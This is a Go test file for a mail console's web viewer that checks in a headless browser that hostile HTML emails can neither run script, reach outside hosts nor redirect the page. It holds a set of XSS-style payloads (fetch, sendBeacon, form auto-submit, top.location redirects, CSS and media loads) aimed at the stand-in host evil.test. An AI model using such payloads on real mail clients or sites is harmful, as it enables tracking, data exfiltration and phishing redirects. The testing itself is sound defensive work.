package console_test

import (
	"fmt"
	"html"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/sluicemail/sluice/console"
	"github.com/sluicemail/sluice/console/mailview"
	"github.com/sluicemail/sluice/dev/chromium"
	"github.com/sluicemail/sluice/internal/consoletest"
)

// outside is a server that no mail may reach.
type outside struct {
	net.Listener
	came  atomic.Int64 // connections, whatever is said over them
	asked atomic.Int64 // those over which something was said: browsers make some on suspicion
}

func newOutside(t *testing.T) *outside {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	o := &outside{Listener: l}
	var all sync.WaitGroup
	all.Go(func() {
		for {
			nc, err := l.Accept()
			if err != nil {
				return
			}
			o.came.Add(1)
			all.Go(func() {
				defer nc.Close()
				_ = nc.SetReadDeadline(time.Now().Add(waitTime))
				if n, _ := nc.Read(make([]byte, 1)); n > 0 {
					o.asked.Add(1)
				}
			})
		}
	})
	t.Cleanup(func() { l.Close(); all.Wait() })
	return o
}

// aim has an attack go for the server.
func (o *outside) aim(attack string) string {
	return strings.NewReplacer("evil.test", o.Addr().String(), "track.test", o.Addr().String()).Replace(attack)
}

// alarm is what attacks with scripts would do to the page around them, or to their own.
const alarm = `document.documentElement.dataset.ran = "yes"; try { top.document.documentElement.dataset.ran = "yes" } catch (e) {}`

// TestHostileMailInBrowser shows every hostile mail in a real browser: no script runs, nothing is asked of another
// host, the page stays where it is. Remote images come when somebody asks for them, which shows that the count counts.
func TestHostileMailInBrowser(t *testing.T) {
	t.Parallel() // with the other browsers: they wait more than they work
	o := newOutside(t)
	mails := consoletest.HostileMails(t, "../../console/mailview/testdata/hostile")
	for id, mail := range mails {
		mails[id] = strings.ReplaceAll(o.aim(mail), "alert(1)", alarm)
	}
	mails["remote"] = o.aim("Subject: x\r\nContent-Type: text/html\r\n\r\n<p>picture: <img src=https://track.test/p.gif width=20 height=20>")
	w := consoletest.WithMails(t, mails, nil)
	b := chromium.Start(t, w.Server.URL)
	told := b.Complaints()
	b.LogIn("/messages/remote/rendered", "admin", "secret")
	b.Await(`document.querySelector("#live[data-state=on]")`)

	var ids []string
	w.LogIn()
	for id := range mails {
		if w.Get("/messages/"+id+"/frame").StatusCode == http.StatusOK {
			ids = append(ids, id)
		}
	}
	require.Greater(t, len(ids), 30)
	slices.Sort(ids)
	for _, id := range ids {
		b.Await(fmt.Sprintf(`(window.shown = "", window.letter = document.querySelector(".letter"), letter.onload = () => { shown = %q }, letter.src = "/messages/%s/frame", true)`, id, id))
		b.Await(fmt.Sprintf(`shown === %q`, id))
		b.Do(chromedp.MouseClickXY(700, 500)) // on whatever has spread itself over the frame
		b.Await(`location.pathname === "/messages/remote/rendered" && document.querySelectorAll("iframe").length === 1 && window.length === 1`)
		b.Await(`!document.documentElement.dataset.ran && letter.contentDocument === null`)
	}
	for _, id := range []string{"script", "names", "bytes", "long-html"} {
		for _, as := range []string{"text", "source", "rendered"} {
			b.Do(chromedp.Navigate(b.Base + "/messages/" + id + "/" + as))
			b.Await(`document.querySelector(".mail") && !document.documentElement.dataset.ran && document.documentElement.scrollWidth <= innerWidth`)
		}
	}
	require.Zero(t, o.came.Load(), "nothing left the console's host")
	require.Empty(t, told(), "what the browser complains about")

	b.Do(chromedp.Navigate(b.Base+"/messages/remote/rendered"), chromedp.Click(`.remote button`))
	b.Await(`document.body.textContent.includes("shown, this once")`)
	require.Eventually(t, func() bool { return o.came.Load() > 0 }, waitTime, pollTime,
		"remote images come when they are asked for")
}

// TestSecondWall serves the attacks as they are, under the policy and in the frame of rendered mail: even if something
// were let through, it could neither run, nor load, nor send, nor lead away.
func TestSecondWall(t *testing.T) {
	t.Parallel() // with the other browsers: they wait more than they work
	o := newOutside(t)
	attacks := map[string]string{
		"top":     `<script>` + alarm + `; top.location = "http://evil.test/"</script>`,
		"link":    `<a target="_top" href="http://evil.test/" style="position:fixed;inset:0">x</a>`,
		"submit":  `<form action="http://evil.test/" target="_top"><button style="position:fixed;inset:0">send</button></form><script>document.forms[0].submit()</script>`,
		"fetch":   `<script>fetch("http://evil.test/"); new Image().src = "http://evil.test/"; navigator.sendBeacon("http://evil.test/")</script>`,
		"frame":   `<iframe src="http://evil.test/"></iframe><object data="http://evil.test/"></object><embed src="http://evil.test/">`,
		"refresh": `<meta http-equiv="refresh" content="0;url=http://evil.test/">`,
		"style":   `<style>@import "http://evil.test/a.css"; body { background: url(http://evil.test/b.png) } @font-face { font-family: x; src: url(http://evil.test/c) } p { font-family: x }</style><p>x</p>`,
		"media":   `<img src="http://evil.test/d.png"><video src="http://evil.test/e" autoplay></video><svg><image href="http://evil.test/f"/><script>` + alarm + `</script></svg>`,
	}
	ours := httptest.NewRecorder()
	c := new(console.Console)
	defer c.Close()
	c.ServeHTTP(ours, httptest.NewRequest("GET", "/healthz", nil))
	ours.Header().Del("Content-Type")
	mux := http.NewServeMux()
	mux.HandleFunc("GET /page/{id}", func(w http.ResponseWriter, r *http.Request) {
		maps.Copy(w.Header(), ours.Header())
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w,
			`<!doctype html><iframe sandbox="allow-popups allow-popups-to-escape-sandbox" src="/raw/%s" width="800" height="600"></iframe>`, html.EscapeString(r.PathValue("id")))
	})
	mux.HandleFunc("GET /raw/{id}", func(w http.ResponseWriter, r *http.Request) {
		maps.Copy(w.Header(), ours.Header())
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("X-Frame-Options", "SAMEORIGIN")
		w.Header().Set("Content-Security-Policy", mailview.PagePolicy(false))
		fmt.Fprint(w, o.aim(attacks[r.PathValue("id")]))
	})
	server := httptest.NewServer(mux)
	defer server.Close()
	b := chromium.Start(t, server.URL)
	for _, id := range slices.Sorted(maps.Keys(attacks)) {
		b.Do(chromedp.Navigate(b.Base + "/page/" + id))
		b.Await(`document.readyState === "complete" && window.length === 1`)
		b.Do(chromedp.MouseClickXY(300, 300))
		b.Await(fmt.Sprintf(`location.pathname === "/page/%s" && !document.documentElement.dataset.ran`, id))
		require.Zero(t, o.asked.Load(), id)
	}
}
